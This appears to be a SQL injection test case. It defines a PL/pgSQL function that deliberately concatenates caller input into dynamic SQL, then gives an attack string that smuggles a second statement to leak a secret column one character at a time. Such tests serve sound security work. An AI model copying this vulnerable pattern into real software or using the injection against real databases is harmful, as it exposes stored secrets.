-- Puts a second statement behind the text that format() makes.
-- wants: read
-- shows: letter-116
-- setup:
CREATE FUNCTION call_it(more text) RETURNS void LANGUAGE plpgsql AS $$ DECLARE letter int; BEGIN
  EXECUTE 'SELECT ascii(secret) FROM vlt_account WHERE id = $1' INTO letter USING 1;
  EXECUTE format('SELECT %L', 'a' /* ); */) || more || letter || ''', '''', true)';
END $$;
-- attack:
SELECT call_it('; SELECT set_' || 'config(''x.y1_');
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE current_setting('x.y1_{n}', true) IS NOT NULL;
